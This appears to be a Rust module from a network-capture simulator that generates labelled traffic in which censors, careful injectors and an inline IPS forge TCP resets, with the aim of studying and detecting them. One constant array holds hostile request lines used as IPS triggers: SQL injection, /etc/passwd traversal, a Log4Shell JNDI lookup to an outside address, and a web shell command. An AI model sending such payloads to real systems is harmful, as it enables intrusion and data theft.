//! Censors: an on-path injector matches a name in the first data segment
//! and forges RSTs (Clayton, Murdoch, Watson, "Ignoring the Great Firewall
//! of China", 2006; Weaver, Sommer, Paxson, NDSS 2009).

use rstscope_core::decode::flags::ACK;
use rstscope_core::report::Cause;

use super::stacks;
use super::{forged, own, Device, Stage};
use crate::conversation::{Conversation, Disguise, Side};
use crate::host::IpIdStyle;
use crate::label::SubCause;
use crate::net::{Incident, ResetId};
use crate::payload;

/// The client's first data names a blocked site (TLS SNI or HTTP Host).
/// The injector sends 1-3 RSTs toward the client in the server's name
/// (seq = the trigger's ack, ack = its end, the later ones with seq or ack
/// jumping ahead) and sometimes as many toward the server in the client's
/// name. The real server answers unless its RST got there first; its data
/// reaches a client whose socket the forged RST tore down, and the client's
/// kernel resets every segment (consequences of the first forged RST).
pub fn keyword(st: &mut Stage) {
    let position = st
        .position(None, 0)
        .clamp(2, st.path.hops.saturating_sub(2).max(2));
    let fingerprint = stacks::injector(&mut st.rng);
    let censor = st.device(fingerprint, position);
    st.background(0.0, 60.0);
    let tls = st.chance(70);
    let both_ways = st.chance(50);
    // A browser opens several connections to the site, or retries.
    let mut at = st.seconds(1.0, 60.0);
    let incident = st.net.incident();
    for _ in 0..super::pick(&mut st.rng, &[1, 1, 2, 3, 4]) {
        blocked_connection(st, &censor, (at, incident), tls, both_ways);
        at += st.seconds(0.001, 3.0);
    }
}

/// One connection naming the blocked site, and what the censor does to it.
fn blocked_connection(
    st: &mut Stage,
    censor: &Device,
    (at, incident): (f64, Incident),
    tls: bool,
    both_ways: bool,
) {
    let mut c = st.connect(if tls { 443 } else { 80 }, at);
    c.handshake();
    let trigger = if tls {
        payload::tls_client_hello("blocked.example.org", &mut st.rng)
    } else {
        payload::http_request("GET", "blocked.example.org", "/", 0)
    };
    c.send(Side::Client, &trigger);
    let seen = c.now_us();
    let t = c.trigger(Side::Client);
    let end = t.seq.wrapping_add(t.len);

    let mut roots: Vec<ResetId> = Vec::new();
    if let Some(delay) = st.reply_after(Side::Client, censor) {
        let count = st.rng.range(1, 3);
        for i in 0..count {
            let step = 1460 * i as u32;
            let (seq, ack) = if st.chance(50) {
                (t.ack, end.wrapping_add(step))
            } else {
                (t.ack.wrapping_add(step), end)
            };
            c.set_now_us(seen + (delay * 1e6) as i64 + 60 * i as i64);
            let label = forged(Side::Server, Cause::Injected).within(incident);
            roots.push(c.reset_from(&censor.host, Side::Server, seq, ack, ack_flag(st), label));
        }
    }
    let server_answers = !both_ways || st.chance(30);
    if both_ways {
        let extra_s = if server_answers {
            st.seconds(0.002, 0.02)
        } else {
            0.0
        };
        if let Some(delay) = st.forward_after(Side::Client, censor) {
            c.set_now_us(seen + ((delay + extra_s) * 1e6) as i64);
            let label = forged(Side::Client, Cause::Injected).within(incident);
            roots.push(c.reset_from(&censor.host, Side::Client, end, t.ack, ack_flag(st), label));
        }
    }
    if server_answers {
        c.set_now_us(seen);
        let flight = if tls {
            payload::tls_server_flight(st.rng.range(2_000, 5_000) as usize, &mut st.rng)
        } else {
            payload::http_response("200 OK", st.rng.range(1_000, 5_000) as usize)
        };
        let root = roots.first().copied();
        answered_by_dead_client(&mut c, &flight, root);
    }
    st.net.add(c);
}

/// An injector beyond the capture, somewhere mid-path.
fn injector_beyond_tap(st: &mut Stage) -> Device {
    let last = st.path.hops.saturating_sub(2).max(2);
    let position = st.position(None, 0).clamp(2, last).max(st.path.tap + 1);
    let fingerprint = stacks::injector(&mut st.rng);
    st.device(fingerprint, position)
}

/// An injector answers the client's SYN with a forged RST+ACK (seq 0, ack
/// ISN+1) in the server's name, blocking by address or port; the SYN goes
/// on and the real server's SYN-ACK arrives one round trip later. The
/// client's socket was refused by then, so its kernel resets the SYN-ACK
/// (a consequence of the forged RST). A sloppy injector's RST is ignored
/// and the connection goes on (Zeek's `rst-inject-rae.pcap`). The application
/// may try again, and meets the injector again.
pub fn syn_race(st: &mut Stage) {
    let injector = injector_beyond_tap(st);
    st.background(0.0, 60.0);
    // A sloppy injector's RST is not acceptable in SYN-SENT (RFC 9293
    // §3.10.7.3): its ack is the ISN, or it lacks the ACK flag.
    let sloppy = st.chance(25);
    let port = if st.chance(60) { 443 } else { 80 };
    let mut at = st.seconds(1.0, 60.0);
    let incident = st.net.incident();
    for _ in 0..st.rng.range(1, 3) {
        let mut c = st.connect(port, at);
        c.syn();
        let seen = c.now_us();
        let isn = c.client_isn();
        let (ack, flags) = match (sloppy, st.chance(50)) {
            (false, _) => (isn.wrapping_add(1), ACK),
            (true, true) => (isn, ACK),
            (true, false) => (isn.wrapping_add(1), 0),
        };
        let root = st.reply_after(Side::Client, &injector).map(|delay| {
            c.set_now_us(seen + (delay * 1e6) as i64);
            let label = forged(Side::Server, Cause::Injected).within(incident);
            c.reset_from(&injector.host, Side::Server, 0, ack, flags, label)
        });
        c.set_now_us(seen);
        c.syn_ack();
        if sloppy {
            c.ack(Side::Client);
            c.send(
                Side::Client,
                &payload::http_request("GET", "www.example.org", "/", 0),
            );
            c.send(Side::Server, &payload::http_response("200 OK", 1_800));
            c.ack(Side::Client);
            c.close(Side::Client);
            st.net.add(c);
            break;
        }
        c.reset_no_socket(
            Side::Client,
            own(Side::Client, Cause::ClosedSocket).after(root),
        );
        st.net.add(c);
        at += st.seconds(0.5, 5.0);
    }
}

/// A careful injector (net4people/bbs#98): its RST+ACK carries the TTL the
/// server's packets arrive with, the server's next IP-ID and its TCP
/// timestamps. Only timing gives it away: it comes sooner after the
/// trigger than the server could answer, and the real server's answer
/// still arrives, which the client's kernel, without the socket, resets.
pub fn careful(st: &mut Stage) {
    let injector = injector_beyond_tap(st);
    st.background(0.0, 60.0);
    let at = st.seconds(1.0, 60.0);
    let mut c = st.connect(443, at);
    c.handshake();
    c.send(
        Side::Client,
        &payload::tls_client_hello("blocked.example.org", &mut st.rng),
    );
    let seen = c.now_us();
    let t = c.trigger(Side::Client);
    let server = c.host(Side::Server);
    let disguise = Disguise {
        ttl: server.ttl_seen(),
        ip_id: Some(match server.fingerprint.ip_id {
            IpIdStyle::Zero => 0,
            _ => c.ip_id_of(Side::Server),
        }),
        dont_fragment: server.fingerprint.dont_fragment,
        timestamps: true,
    };
    let root = st.reply_after(Side::Client, &injector).map(|delay| {
        c.set_now_us(seen + (delay * 1e6) as i64);
        let fields = (t.ack, t.seq.wrapping_add(t.len), ACK);
        let label = forged(Side::Server, Cause::Injected);
        c.reset_disguised(&injector.host, Side::Server, fields, disguise, label)
    });
    c.set_now_us(seen);
    let flight = payload::tls_server_flight(st.rng.range(2_000, 5_000) as usize, &mut st.rng);
    answered_by_dead_client(&mut c, &flight, root);
    st.net.add(c);
}

/// RST or RST+ACK, as injectors vary.
fn ack_flag(st: &mut Stage) -> u16 {
    if st.chance(70) {
        ACK
    } else {
        0
    }
}

/// The server's `data`, segment by segment; the client, whose socket is
/// gone, answers each with its kernel's bare RST.
fn answered_by_dead_client(c: &mut Conversation, data: &[u8], root: Option<ResetId>) {
    let mss = 1400;
    let mut first = true;
    let mut clock = c.now_us();
    for chunk in data.chunks(mss) {
        c.set_now_us(clock);
        if first {
            c.send(Side::Server, chunk);
            first = false;
        } else {
            c.wait(0.000_09);
            c.send_now(Side::Server, chunk);
        }
        clock = c.now_us();
        let label = own(Side::Client, Cause::ClosedSocket).after(root);
        c.reset_no_socket(Side::Client, label);
    }
}

/// Request lines an IPS signature matches (SQL injection, path traversal,
/// Log4Shell, a web shell).
const ATTACKS: [&str; 4] = [
    "/search?q=1'%20UNION%20SELECT%20password%20FROM%20users--",
    "/../../../../etc/passwd",
    "/?x=${jndi:ldap://203.0.113.9/a}",
    "/uploads/shell.php?cmd=id",
];

/// An inline IPS (Suricata or Snort `reject`, a firewall's "reset-both"
/// action) matches a signature in the client's request, drops that segment
/// and resets both ends: toward the client in the server's name (`seq =
/// SEG.ACK`) and toward the server in the client's name (`seq = SEG.SEQ`,
/// where the server still expects it). The server never sees the request,
/// so nothing races the resets.
pub fn ips_block(st: &mut Stage) {
    let position = st.path.hops.saturating_sub(st.rng.range(1, 3) as u8).max(1);
    let fingerprint = stacks::appliance(&mut st.rng);
    let ips = st.device(fingerprint, position);
    st.background(0.0, 60.0);
    let at = st.seconds(1.0, 60.0);
    let mut c = st.connect(80, at);
    c.handshake();
    let path = super::pick(&mut st.rng, &ATTACKS);
    let request = payload::http_request("GET", "shop.example.com", path, 0);
    let seen_by_capture = st.sees_before(Side::Client, &ips);
    c.set_visible(Side::Client, seen_by_capture);
    c.send(Side::Client, &request);
    c.set_visible(Side::Client, true);
    let sent = c.now_us();
    let t = c.trigger(Side::Client);
    let end = t.seq.wrapping_add(t.len);
    let incident = st.net.incident();
    let label = |side| {
        forged(side, Cause::Injected)
            .sub(SubCause::IpsBlock)
            .within(incident)
    };
    if let Some(delay) = st.reply_after(Side::Client, &ips) {
        c.set_now_us(sent + (delay * 1e6) as i64);
        c.reset_from(
            &ips.host,
            Side::Server,
            t.ack,
            end,
            ACK,
            label(Side::Server),
        );
    }
    if let Some(delay) = st.forward_after(Side::Client, &ips) {
        c.set_now_us(sent + (delay * 1e6) as i64 + 30);
        c.reset_from(
            &ips.host,
            Side::Client,
            t.seq,
            t.ack,
            ACK,
            label(Side::Client),
        );
    }
    st.net.add(c);
}
